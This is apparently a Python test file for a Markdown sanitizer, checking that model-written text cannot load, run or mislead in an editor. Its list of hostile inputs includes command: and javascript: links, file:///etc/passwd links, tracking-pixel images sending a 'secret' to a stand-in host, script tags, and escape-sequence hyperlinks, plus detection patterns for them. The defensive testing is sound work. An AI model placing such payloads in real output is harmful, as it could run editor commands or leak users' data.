"""Nothing a model writes can load, run or mislead in an editor."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from architect_lsp.review.markdown import clean, fenced, line

HOSTILE = [
    "[click](command:workbench.action.terminal.new)",
    "[click](<command:x>)",
    "[click](  command:x  )",
    '[click](command:x "title")',
    "[`code`](command:x)",
    "[`code`](command&#58;x)",
    "[a [b] c](javascript:alert(1))",
    "<command:x>",
    "[x]\n\n[x]: command:x",
    "> [x]: command:x\n\n[x]",
    "!![pixel](https://tracker.invalid/p.png)",
    "[[inner](command&#58;x)](https://example.com)",
    "[click](vscode://file/etc/passwd)",
    "[click](file:///etc/passwd)",
    "[click](data:text/html,hi)",
    "[click](../../secrets.env)",
    "![pixel](https://tracker.invalid/p.png?q=secret)",
    "![`x`](https://tracker.invalid/p.png)",
    "![pixel][1]\n\n[1]: https://tracker.invalid/p.png",
    "<img src=https://tracker.invalid/p.png>",
    "<script>alert(1)</script>",
    "<SCRIPT\n>alert(1)</SCRIPT>",
    "<a href='command:x'>click</a>",
    "<!-- hidden -->",
    "\\`<img src=x>\\`",
    "`<img src=x>",
    "``<img src=x>`",
    "- a\n  ```\n<img src=x>\n  ```",
    "- ```\n  ```\n<img src=x>",
    "> ```\n<img src=x>",
    "    ```\n<img src=x>\n    ```",
    "`\n``<img src=x>`[click](command:x)``<img src=x>`",
    "```a`b\n<img src=x>\n```",
    "`x``<img src=x>`[click](command:x)\\`y\\`",
    "\\\\`a` [click](command:x) `b`",
    "\\``a` [click](command:x) `b`",
    "\x1b[31mred\x1b[0m \x1b]8;;https://tracker.invalid\x07link\x1b]8;;\x07",
    "a\u202eb\u2066c\u200bd\x00e\ufeff",
    "lone \ud800 surrogate",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_harmless(text):
    harmless(clean(text, 4_000))


@given(st.lists(st.sampled_from([*HOSTILE, "```\n", "\n", "`", "x", " ", "[", "](", "!", "~~~\n", "    "]), max_size=8))
def test_no_mixture_is_harmful(parts):
    harmless(clean("".join(parts), 4_000))


def harmless(text: str) -> None:
    """Fails when the text, read as Markdown, holds more than text, code and https: links."""
    text.encode()
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]", text)
    prose = re.sub(r"(?ms)^(```+|~~~+)[^\n`]*\n.*?^\1$", "", text)
    prose = re.sub(r"(?<![`\\])(`+)(?!`)[^\n]+?(?<!`)\1(?!`)", "CODE", prose)
    assert not re.search(r"<[A-Za-z/!?]", prose), prose
    assert not re.search(r"!\[", prose), prose
    assert not re.search(r"\]\((?!https://)", prose), prose
    assert not re.search(r"^[\s>*+-]*\[[^\[\]]+\]:", prose, re.MULTILINE), prose  # a label holds no bracket
    assert not re.search(r"\b(command|vscode|javascript|file|data):\S", prose), prose


@pytest.mark.parametrize(
    "text",
    [
        "Use **one** `Session` a request: see [the docs](https://docs.sqlalchemy.org/en/20/).",
        "```python\nif a < b and <c>:\n    print(f'<b>{x}</b>')  # ![not an image](x)\n```",
        "- a\n- `List<T>` and ``a`b``\n\n1 < 2 and a <3",
        "```\nfirst\n```\n\ntext\n\n```js\nsecond\n```",
        "a[0](x) and f(x)[0]",
    ],
)
def test_good_markdown_stays(text):
    assert clean(text, 4_000) == text.replace("[0](x)", "[0] (x)")


def test_a_fence_left_open_is_closed():
    assert clean("```python\nx = 1", 100) == "```python\nx = 1\n```"
    assert clean("```python\n" + "x" * 500, 100).endswith("…\n```")


def test_an_indented_fence_moves_to_the_margin():
    assert clean("1. Do:\n   ```python\n   x = 1\n   ```\n2. Done", 400) == "1. Do:\n```python\n   x = 1\n```\n2. Done"


def test_lines_and_limits():
    assert line("a\n b\t c", 10) == "a b c"
    assert line("abcdef", 4) == "abc…"
    assert len(clean("x" * 9_000, 4_000)) == 4_000


def test_fenced_code_can_not_leave_its_fence():
    assert fenced("a = '''```'''") == "````python\na = '''```'''\n````"


@given(st.text(max_size=200))
def test_cleaning_twice_changes_no_code_and_never_fails(text):
    clean(text, 100)
    assert "\n" not in line(text, 100)
